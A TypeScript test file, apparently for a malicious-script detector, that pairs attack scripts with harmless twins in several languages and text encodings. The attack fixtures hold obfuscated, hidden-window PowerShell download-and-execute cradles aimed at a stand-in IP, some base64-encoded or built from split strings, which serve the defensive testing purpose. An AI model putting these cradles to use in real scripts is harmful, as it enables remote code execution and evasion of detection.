/** Scripts whose names have letters outside ASCII, in the encodings in which people keep them: attacks and their harmless twins. */

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

const FETCHED = 'hell -w hidden -c iex(iwr http://203.0.113.7/a)'
const CODED = Buffer.from('iex(iwr http://203.0.113.7/a)', 'utf16le').toString('base64')

/** Each with a name in place of `X` and another in place of `Y`. */
const SCRIPTS: Record<string, [attack: string, twin: string]> = {
  'a.js': [
    `var Y = new ActiveXObject("WScript.Shell"); var X = "powers" + "${FETCHED}"; Y.Run(X, 0);`,
    'var Y = new ActiveXObject("WScript.Shell"); var X = Y.ExpandEnvironmentStrings("%TEMP%"); WScript.Echo(X);',
  ],
  'a.vbs': [
    `Set Y = CreateObject("WScript.Shell")\r\nX = "powers" & "${FETCHED}"\r\nY.Run X, 0\r\n`,
    'Set Y = CreateObject("WScript.Shell")\r\nX = Y.ExpandEnvironmentStrings("%USERNAME%")\r\nMsgBox X\r\n',
  ],
  'a.ps1': [
    '$X = "http://203.0.113.7/a"\r\n$Y = (New-Object Net.WebClient).("Download"+"String").Invoke($X)\r\n& ("i"+"ex") $Y\r\n',
    '$X = Get-ChildItem "C:\\Data" -Recurse\r\n$Y = ($X | Measure-Object Length -Sum).Sum\r\nWrite-Host "All: $Y"\r\n',
  ],
  'b.ps1': [
    `function X($Y) { [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($Y)) }\r\niex (X '${CODED}')\r\n`,
    'function X($Y) { Write-Host "Done: $Y" }\r\nX \'Data\'\r\n',
  ],
  'a.py': [
    `import os\nX = "powers"\nY = X + "${FETCHED}"\nos.system(Y)\n`,
    'import os\nX = "C:/Data"\nfor Y in os.listdir(X):\n    print(Y)\n',
  ],
  'a.bat': [
    '@echo off\r\nset X=powers\r\n%X%hell -w hidden -c "iex(iwr http://203.0.113.7/a)"\r\n',
    '@echo off\r\nset X=C:\\Data\r\ndir %X%\r\n',
  ],
}
const NAMES: Record<string, readonly [string, string]> = {
  Russian: ['Имя_И', 'чР'],
  German: ['größe', 'überÖ'],
  Japanese: ['名前', '値'],
}
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')
/** The letters of the code pages for Cyrillic and the west of Europe that the names above have. */
const codePage = (text: string): Buffer =>
  Buffer.from(
    text.replace(/[\u0410-\u044f]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) - 0x350)),
    'latin1',
  )
const ENCODINGS: Record<string, (text: string) => Buffer> = {
  'UTF-8': Buffer.from,
  'UTF-16': utf16,
  'a code page': codePage,
}

const isMalicious = (name: string, bytes: Buffer): boolean =>
  inspect(bytes, { name }).findings.some(({ severity }) => severity === 'malicious')

for (const [language, [x, y]] of Object.entries(NAMES))
  for (const [encoding, encode] of Object.entries(ENCODINGS))
    if (language !== 'Japanese' || encoding !== 'a code page')
      describe(`names in ${language}, in ${encoding}`, () => {
        for (const [name, [attack, twin]] of Object.entries(SCRIPTS)) {
          // Neither of the two programs reads UTF-16.
          if (encoding === 'UTF-16' && /py|bat/.test(name)) continue
          const named = (text: string): Buffer => encode(text.replace(/\bX\b/g, x).replace(/\bY\b/g, y))
          test(name, () => {
            assert.ok(isMalicious(name, named(attack)))
            assert.ok(!isMalicious(name, named(twin)))
          })
        }
      })
